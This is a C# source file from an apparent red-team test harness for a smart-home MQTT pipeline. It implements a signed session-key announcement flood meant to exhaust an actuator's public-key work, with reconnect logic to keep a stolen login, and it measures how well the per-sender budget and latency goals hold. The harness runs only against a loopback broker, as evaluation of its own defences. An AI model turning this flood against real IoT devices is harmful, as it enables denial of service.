using System.Diagnostics;
using System.Security.Cryptography;
using SmartHome.Contracts;
using SmartHome.Messaging;
using SmartHome.Security;
using RejectReasons = SmartHome.Security.RejectReasons;

namespace SmartHome.Attacker;

/// <summary>
/// announcement-flood: a key holder publishes validly signed session-key announcements — half with a real wrapped key,
/// half with garbage where the wrapped key goes — at ≥ 1,000/s, to make the actuator do RSA and DSA work without bound
/// and to delay every other device's readings. Judged on the victim's side: how many announcements the actuator
/// verified (public-key work) against what the sender's budget allows, and the latency and loss of the other devices'
/// legit readings sent meanwhile (every device but the flooding identity and the stolen plug-garage, whose key the
/// campaign's insider holds).
/// </summary>
internal sealed class AnnouncementFloodAttack : IAttack
{
    /// <summary>The other devices' legit readings must keep this p99 while the flood lasts.</summary>
    public const double LegitP99GoalMs = 20;

    public static AnnouncementFloodAttack Instance { get; } = new();

    public string Name => Attacks.AnnouncementFlood;

    public async Task<AttackResult> RunAsync(AttackContext context, AttackLevel level, AttackInput input, CancellationToken ct)
    {
        if (context.RefusedUnlessLoopbackBroker(Attacks.AnnouncementFlood, level) is { } refused)
        {
            return refused;
        }

        var request = input.Request;
        var victim = context.Victim;
        var seconds = Math.Clamp(request.AnnouncementFloodSeconds, 0.5, 600);
        var rate = Math.Clamp(request.AnnouncementFloodRate, 1, 20_000);
        var count = (int)Math.Ceiling(seconds * rate);
        // The insider floods as the identity it holds the key of; the others can only sign with their own key.
        var device = level == AttackLevel.Insider ? AttackerIdentities.InsiderDevice : Targets.VictimDevice;
        var topic = Topics.Keys(device);
        // The insecure pipeline has no announcements to sign; nothing is signed there.
        var signer = context.Secure ? context.Keys.SigningKey(level) : null;
        var attempts = new PlannedAttempt[count];

        await using var session = await context.ConnectAsync(level, Attacks.AnnouncementFlood, ct).ConfigureAwait(false);
        var startSeq = await victim.LatestSeqAsync(ct).ConfigureAwait(false);
        var cpuBefore = await victim.ActuatorCpuMillisecondsAsync(ct).ConfigureAwait(false);
        var legit = new LegitReadings(victim);
        var legitTask = legit.RequestAsync(Math.Max(20, (int)(seconds * LegitReadings.PerSecond)), ct);
        var spans = new Activity?[count];
        using var collector = new DecisionCollector(victim, startSeq, ct);
        var clock = Stopwatch.StartNew();
        var sends = new List<Task>(count);
        var reconnects = 0;
        var unsent = 0;
        var lastReconnect = TimeSpan.FromSeconds(-1);
        for (var i = 0; i < count; i++)
        {
            var due = TimeSpan.FromSeconds(i / rate);
            if (due - clock.Elapsed > TimeSpan.FromMilliseconds(2))
            {
                await Task.Delay(due - clock.Elapsed, ct).ConfigureAwait(false);
            }

            var id = context.NewAttemptId(Attacks.AnnouncementFlood);
            // Signed now, so its timestamp is fresh: the flood must face the budget, not the freshness check.
            var payload = signer is not null ? FloodAnnouncement(context.Keys.Forge, device, topic, ForgeryValues.FreshCounter(i), garbageKey: i % 2 == 1, signer) : FloodPlainAnnouncement(device);
            attempts[i] = new PlannedAttempt(id, [new PlannedMessage(topic, payload, id)]);
            spans[i] = context.Telemetry.StartAttempt(Attacks.AnnouncementFlood, level, id);
            if (!session.IsConnected && session.Refusal is null && clock.Elapsed - lastReconnect > TimeSpan.FromMilliseconds(100))
            {
                // The insider shares its login with the real device, which takes the connection back (use_username_as_clientid):
                // a determined attacker logs in again, as often as it can.
                lastReconnect = clock.Elapsed;
                reconnects++;
                try
                {
                    await session.ReconnectAsync(ct).ConfigureAwait(false);
                }
                catch (Exception ex) when (ex is MQTTnet.Exceptions.MqttCommunicationException or InvalidOperationException)
                {
                    // Still being pushed off (or a disconnect is pending): this announcement goes unsent; try again later.
                }
            }

            if (session.IsConnected)
            {
                var attempt = attempts[i];
                sends.Add(Task.Run(async () =>
                {
                    try
                    {
                        attempt.Acks[id] = await session.PublishAsync(topic, payload, id, false, ct).ConfigureAwait(false);
                    }
                    catch (Exception ex) when (ex is not OperationCanceledException)
                    {
                        // MQTTnet can fail a publish that races the reconnect above in other ways than a connection loss;
                        // either way the broker did not acknowledge it (judged from the actuator's side below).
                        attempt.Acks[id] = null;
                    }
                }, ct));
            }
            else
            {
                unsent++;
            }
        }

        await Task.WhenAll(sends).ConfigureAwait(false);
        var sentIn = clock.Elapsed;
        var legitIds = await legitTask.ConfigureAwait(false);
        var (collected, lastSeq) = await collector.StopAsync().ConfigureAwait(false);
        var drained = await context.Judge.DrainAsync(lastSeq, ct).ConfigureAwait(false);
        collected.AddRange(await victim.DecisionsAfterAsync(lastSeq, ct).ConfigureAwait(false));
        var all = collected;
        // The drain only proves the actuator has seen everything; the decisions are the ones collected all along.
        var decisions = drained is null ? null : AttemptJudge.ByAttemptId(all);

        var cpuAfter = await victim.ActuatorCpuMillisecondsAsync(ct).ConfigureAwait(false);
        var busy = clock.Elapsed;

        var perSecond = new EnvelopeReceiverOptions().AnnouncementsPerSenderPerSecond;
        var verdicts = Verdicts(attempts, decisions, session.RefusedBy, context.Secure, perSecond);
        // The other devices' readings sent during the flood, from the actuator's own log.
        // The flooding identity's own readings may suffer (a key holder can jam its device); every other device's must not.
        // The stolen plug-garage is excluded too: the campaign's insider holds its key and has already jammed it.
        var otherIds = legitIds.Where(r => r.DeviceId != device && r.DeviceId != AttackerIdentities.InsiderDevice).Select(r => r.MessageId)
            .ToHashSet(StringComparer.Ordinal);
        var others = all.Where(d => d.MessageId is not null && otherIds.Contains(d.MessageId) && d.AttemptId is null).ToList();
        var lost = otherIds.Count - others.Where(d => d.Verdict == "applied").Select(d => d.MessageId).Distinct(StringComparer.Ordinal).Count();
        if (lost > 0)
        {
            // Another device lost readings while the flood lasted: the flood denied service, whatever each announcement cost.
            for (var i = 0; i < count; i++)
            {
                if (decisions is not null && decisions.ContainsKey(attempts[i].Id))
                {
                    verdicts[i] = Verdict.Success;
                }
            }
        }

        // Spans end only now, with the verdicts final (a denial of service above turns verified announcements into successes).
        for (var i = 0; i < count; i++)
        {
            context.Telemetry.EndAttempt(spans[i], Attacks.AnnouncementFlood, level, verdicts[i]);
        }

        var latencies = others.Where(d => d.Verdict == "applied" && d.LatencyMs is not null).Select(d => d.LatencyMs!.Value).ToList();
        var p99 = Judge.Percentile(latencies, 99);
        var p50 = Judge.Percentile(latencies, 50);
        var verified = verdicts.Count(v => v.BlockedBy == Layers.AnnouncementBudget || v.Succeeded);
        var alive = await victim.ActuatorHealthyAsync(ct).ConfigureAwait(false);
        var signedWith = !context.Secure ? "plaintext: the insecure pipeline has no announcements"
            : level == AttackLevel.Insider ? "signed with the stolen key" : "signed with the attacker's own key";
        var acks = string.Join(", ", attempts.SelectMany(a => a.Acks.Values).GroupBy(c => c?.ToString() ?? "none").Select(g => $"{g.Key}×{g.Count()}"));
        var summary = context.Summarize(Attacks.AnnouncementFlood, level, verdicts,
            (session.Refusal is null ? $"PUBACK: {acks}. " : $"connect refused: {session.Refusal}. ") +
            (session.Refusal is null && unsent + reconnects > 0 ? $"{unsent} could not be sent: the broker dropped the attacker, which logged in again {reconnects} times. " : string.Empty) +
            $"{count} announcements as {device} ({signedWith}; half with a valid wrapped key, half garbage) at a target {rate:0}/s, " +
            $"sent in {sentIn.TotalSeconds:0.0} s; the actuator did public-key work on {verified} (budget: {perSecond} per second of its clock). " +
            (legit.FailedBatches > 0 ? $"{legit.FailedBatches} batches of legit readings could not be requested from the sensor. " : string.Empty) +
            $"The other devices' legit readings meanwhile: {otherIds.Count} sent, {latencies.Count} applied, {lost} not applied, " +
            $"{others.Count(d => d.Verdict == "rejected")} rejected; p50 {p50:0.00} ms, p99 {p99:0.00} ms (goal < {LegitP99GoalMs:0} ms). " +
            (cpuBefore is { } before && cpuAfter is { } after
                ? $"The actuator used {after - before:0} ms of CPU over those {busy.TotalSeconds:0.0} s ({(after - before) / busy.TotalMilliseconds:P1} of one core), legit readings included. "
                : string.Empty) +
            (alive ? "Actuator healthy afterwards." : "ACTUATOR NOT HEALTHY afterwards."));
        return summary with { LegitP99Ms = p99 };
    }

    /// <summary>
    /// How long after spending an announcement's budget the actuator may record its decision (the DSA and RSA work in
    /// between takes ≈ 2.4 ms; this allows for a loaded machine). A decision recorded just after a second's boundary may
    /// have spent the second before's budget.
    /// </summary>
    internal static readonly TimeSpan RecordingLag = TimeSpan.FromMilliseconds(500);

    /// <summary>
    /// Judges each announcement by the actuator's decision on it. Public-key work within the sender's budget is the price
    /// of letting a device announce (blocked by <see cref="Layers.AnnouncementBudget"/>); each verified one beyond it is a
    /// success. The budget is per calendar second of the actuator's clock, spent before the work and recorded after it:
    /// each verified announcement is matched to a second it may have spent (the second of its decision, or the one before
    /// when the decision came within <see cref="RecordingLag"/> of the boundary), earliest first, and only one that fits in
    /// no second's budget is a success — a verdict the actuator's own clock cannot contradict.
    /// </summary>
    internal static Verdict[] Verdicts(IReadOnlyList<PlannedAttempt> attempts, IReadOnlyDictionary<string, Decision>? decisions, string? refusedBy,
        bool secure, int perSecond)
    {
        var verdicts = new Verdict[attempts.Count];
        var verified = new List<(int Index, DateTimeOffset At)>();
        for (var i = 0; i < attempts.Count; i++)
        {
            if (decisions is null)
            {
                verdicts[i] = Verdict.Unknown;
            }
            else if (decisions.TryGetValue(attempts[i].Id, out var d) && Verified(d))
            {
                verified.Add((i, d.ReceivedAt));
            }
            else if (d is not null)
            {
                verdicts[i] = Verdict.Blocked(Layers.FromRejectReason(d.Reason));
            }
            else if (refusedBy is not null)
            {
                verdicts[i] = Verdict.Blocked(refusedBy);
            }
            else if (attempts[i].Acks.Count == 0 || attempts[i].Acks[attempts[i].Id] is null)
            {
                // Never sent, or lost with the connection before the broker acknowledged it, and the actuator (drained by the
                // sentinel) never saw it: the broker kept the attacker off its stolen login while the real device held it.
                verdicts[i] = Verdict.Blocked(secure ? Layers.ClientIdBinding : Layers.NotDelivered);
            }
            else
            {
                verdicts[i] = Judge.Attempt(attempts[i], decisions, refusedBy, secure);
            }
        }

        // Sorted by decision time, each one's possible seconds end in order, so the earliest second with room is the best match.
        var spentInSecond = new Dictionary<long, int>();
        foreach (var (index, at) in verified.OrderBy(v => v.At))
        {
            var earliest = (at - RecordingLag).ToUnixTimeSeconds();
            var latest = at.ToUnixTimeSeconds();
            var matched = false;
            for (var second = earliest; second <= latest && !matched; second++)
            {
                if (spentInSecond.GetValueOrDefault(second) < perSecond)
                {
                    spentInSecond[second] = spentInSecond.GetValueOrDefault(second) + 1;
                    matched = true;
                }
            }

            verdicts[index] = matched ? Verdict.Blocked(Layers.AnnouncementBudget) : Verdict.Success;
        }

        return verdicts;
    }

    /// <summary>Decisions that mean the actuator did public-key work on an announcement (DSA verify, and RSA unwrap when signed).</summary>
    private static bool Verified(Decision d) =>
        d.Verdict == "applied" || d.Reason is RejectReasons.BadKey or RejectReasons.BadSignature;

    /// <summary>A validly signed announcement for <paramref name="device"/>; with <paramref name="garbageKey"/>, random bytes where the wrapped key goes.</summary>
    private static byte[] FloodAnnouncement(EnvelopeForge forge, string device, string topic, ulong counter, bool garbageKey, DSA signer)
    {
        var now = DateTimeOffset.UtcNow.ToUnixTimeMilliseconds();
        var salt = RandomNumberGenerator.GetBytes(4);
        return garbageKey
            ? forge.AnnouncementWithWrappedKey(device, ForgeryValues.RandomKeyId(), counter, now, salt, RandomNumberGenerator.GetBytes(256), signer, topic)
            : forge.Announcement(device, ForgeryValues.RandomKeyId(), counter, now, salt, RandomNumberGenerator.GetBytes(32), signer, topic);
    }

    /// <summary>The insecure pipeline has no announcements; the flood sends what a key topic would carry there: bytes nobody reads.</summary>
    private static byte[] FloodPlainAnnouncement(string device) =>
        System.Text.Encoding.UTF8.GetBytes($"{{\"deviceId\":\"{device}\",\"sessionKey\":\"{Convert.ToHexString(RandomNumberGenerator.GetBytes(16))}\"}}");
}
